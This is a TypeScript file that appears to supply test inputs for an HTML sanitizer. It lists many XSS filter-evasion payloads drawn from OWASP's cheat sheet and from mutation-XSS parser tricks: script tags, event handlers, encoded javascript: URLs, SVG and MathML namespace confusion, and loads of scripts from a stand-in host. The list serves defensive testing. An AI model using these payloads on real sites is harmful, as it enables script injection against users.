/**
 * Texts that try to get past a filter of HTML, one or more of each technique of OWASP's XSS Filter
 * Evasion Cheat Sheet, and of what became known since about parsers that read a text differently
 * the second time. Each would act by setting `attacked` on the window, or by loading from a foreign
 * host.
 */
const RUN = 'window.attacked=1'
const FAR = 'https://elsewhere.example'
const decimal = (text: string, end = ';', width = 0) =>
  Array.from(text)
    .map((it) => `&#${String(it.charCodeAt(0)).padStart(width, '0')}${end}`)
    .join('')
const hexadecimal = (text: string) =>
  Array.from(text)
    .map((it) => `&#x${it.charCodeAt(0).toString(16)}`)
    .join('')
const code = `javascript:${RUN}`

const SCRIPTS = [
  `<script src=${FAR}/a.js></script>`,
  `<SCRIPT>${RUN}</SCRIPT>`,
  `<ScRiPt/any src="${FAR}/a.js"></ScRiPt>`,
  `<script/src="${FAR}/a.js"></script>`,
  `<<script>${RUN};//\\<</script>`,
  `<script src=${FAR}/a.js?< b >`,
  `<script src=//elsewhere.example/.j>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script a=">" src="${FAR}/a.js"></script>`,
  `<script a='>' src="${FAR}/a.js"></script>`,
  `<script "a='>'" src="${FAR}/a.js"></script>`,
  `<script>document.write("<scri");</script>pt src="${FAR}/a.js"></script>`,
  `</title><script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `<!--[if gte IE 4]><script>${RUN}</script><![endif]-->`,
  `<!--#exec cmd="/bin/echo '<scr'"--><!--#exec cmd="/bin/echo 'ipt>${RUN}</script>'"-->`,
  `<? echo('<scr)'; echo('ipt>${RUN}</script>'); ?>`,
  `<img """><script>${RUN}</script>"\\>`,
  `\u00bcscript\u00be${RUN}\u00bc/script\u00be`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
]

const HANDLERS = [
  `<a onmouseover="${RUN}">x</a>`,
  `<a onmouseover=${RUN}>x</a>`,
  `<img src=# onmouseover="${RUN}">`,
  `<img src= onmouseover="${RUN}">`,
  `<img onmouseover="${RUN}">`,
  `<img src=/ onerror="${RUN}"></img>`,
  `<img src=x onerror="${decimal(RUN, '', 7)}">`,
  `<img src=x:x onerror\n=\n${RUN}>`,
  `<body onload=${RUN}>`,
  `<body onload!#$%&()*~+-_.,:;?@[/|\\]^\`=${RUN}>`,
  `<p onclick=${RUN} onpointerenter=${RUN}>x</p>`,
  `<input autofocus onfocus=${RUN}>`,
  `<details open ontoggle=${RUN}><summary>x</summary></details>`,
  `<video><source onerror="${RUN}"></video>`,
  `<audio src=x onerror=${RUN}>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<iframe src=# onmouseover="${RUN}"></iframe>`,
  `<table><td onanimationstart=${RUN} style="animation:x 1s">x</td></table>`,
  `javascript:/*--></title></style></textarea></script></xmp><svg/onload='${RUN}//'>`,
]

const ADDRESSES = [
  `<a href="${code}">x</a>`,
  `<a href="JaVaScRiPt:${RUN}">x</a>`,
  `<a href=${decimal(code)}>x</a>`,
  `<a href=${decimal(code, '', 7)}>x</a>`,
  `<a href=${hexadecimal(code)}>x</a>`,
  `<a href="jav\tascript:${RUN}">x</a>`,
  `<a href="jav&#x09;ascript:${RUN}">x</a>`,
  `<a href="jav&#x0A;ascript:${RUN}">x</a>`,
  `<a href="jav&#x0D;ascript:${RUN}">x</a>`,
  `<a href="java\0script:${RUN}">x</a>`,
  `<a href=" &#14;  javascript:${RUN}">x</a>`,
  `<a href="vbscript:msgbox(1)">x</a>`,
  `<a href="livescript:${RUN}">x</a>`,
  `<a href="data:text/html,<script>${RUN}</script>">x</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
  `<a href="//elsewhere.example/">x</a>`,
  `<a href="/\\elsewhere.example/">x</a>`,
  `<a href="/\t/elsewhere.example/">x</a>`,
  `<a href="h\ntt\tp://elsewhere.example/">x</a>`,
  `<a href="http://1113982867/">x</a>`,
  `<a href="http://0x42.0x0000066.0x7.0x93/">x</a>`,
  `<a href="https://mall.hean.example@elsewhere.example/">x</a>`,
  `<a href="https://mall.hean.example.elsewhere.example/">x</a>`,
  `<a href="${FAR}/?mall.hean.example">x</a>`,
  `<a href="blob:${FAR}/1">x</a>`,
  `<a href="filesystem:${FAR}/1">x</a>`,
  `<img src="${code}">`,
  `<img src="${decimal(code)}">`,
  `<img src="jav&#x09;ascript:${RUN}">`,
  `<img src="data:image/svg+xml,<svg onload=${RUN}>">`,
  `<img src="${FAR}/a.png">`,
  `<img src="//elsewhere.example/a.png">`,
  `<img dynsrc="${code}" lowsrc="${code}">`,
  `<img srcset="${FAR}/a.png 2x" src=/a.png>`,
  `<img src="\`<javascript:${RUN}>\`"`,
]

const ELEMENTS = [
  `<iframe src="${code}"></iframe>`,
  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<iframe src=${FAR}/a.html <`,
  `<frameset><frame src="${code}"></frameset>`,
  `<object data="${FAR}/a.html"></object>`,
  `<object type="text/html" data="${code}"></object>`,
  `<embed src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">`,
  `<applet code="a"></applet>`,
  `<base href="${code}//">`,
  `<link rel=stylesheet href="${FAR}/a.css">`,
  `<meta http-equiv=refresh content="0;url=${code}">`,
  `<meta http-equiv="Link" content="<${FAR}/a.css>; rel=stylesheet">`,
  `<style>@import'${FAR}/a.css';</style>`,
  `<style>li{list-style-image:url("${code}")}</style><ul><li>x</ul>`,
  `<p style="background-image:url(${code})">x</p>`,
  `<p style="width:expression(${RUN})">x</p>`,
  `<xss style="behavior:url(a.htc)">x</xss>`,
  `<bgsound src="${code}">`,
  `<br size="&{${RUN}}">`,
  `<table background="${code}"><td background="${code}">x</table>`,
  `<body background="${code}">`,
  `<form action="${code}"><input type=submit><button formaction="${code}">x</button></form>`,
  `<input type=image src="${code}">`,
  `<isindex action="${code}">`,
  `<xml id=a><i><b><img src="javas<!-- -->cript:${RUN}"></b></i></xml><span datasrc=#a>x</span>`,
  `<t:set attributeName="innerHTML" to="x<script defer>${RUN}</script>">`,
  `<template><script>${RUN}</script></template>`,
  `<p id=location name=cookie class=x>x</p><a id=attacked href=/x name=attacked>x</a>`,
  `<slot name=x></slot><x-own onclick=${RUN}>x</x-own>`,
  `<portal src=${FAR}></portal><fencedframe src=${FAR}></fencedframe>`,
]

/** SVG and MathML, with parsers that leave them at unexpected places. */
const NAMESPACES = [
  `<svg/onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><svg><svg><script href=${FAR}/a.js /></svg></svg></svg>`,
  `<svg><a xlink:href="${code}"><text>x</text></a></svg>`,
  `<svg><animate attributeName=href values=${code} /></svg>`,
  `<svg><use href="${FAR}/a.svg#x" /></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>${RUN}</script>"></iframe></foreignObject></svg>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  `<svg><style><img title="</style><img src onerror=${RUN}>"></style></svg>`,
  `<svg><desc><svg><title><style></title></svg></desc><img src=x onerror=${RUN}></svg>`,
  `<math><a xlink:href="${code}">x</a></math>`,
  `<math><maction actiontype="statusline#${FAR}" xlink:href="${code}">x</maction></math>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<math><mtext><table><mglyph><style><math href=x><img src=x onerror=${RUN}></style></math>`,
  `<math><mi><annotation-xml encoding="text/html"><img src onerror=${RUN}></annotation-xml></mi></math>`,
  `<table><svg><td><img src=x onerror=${RUN}></td></svg></table>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  `<textarea><p title="</textarea><img src=x onerror=${RUN}>"></textarea>`,
  `<xmp><p title="</xmp><img src=x onerror=${RUN}>"></xmp>`,
  `<plaintext><img src=x onerror=${RUN}>`,
  `<select><style></select><img src=x onerror=${RUN}></style></select>`,
  `<p title="<img src=x onerror=${RUN}>">&lt;img src=x onerror=${RUN}&gt;</p>`,
]

export const FILTER_EVASION: readonly string[] = [
  ...SCRIPTS,
  ...HANDLERS,
  ...ADDRESSES,
  ...ELEMENTS,
  ...NAMESPACES,
]
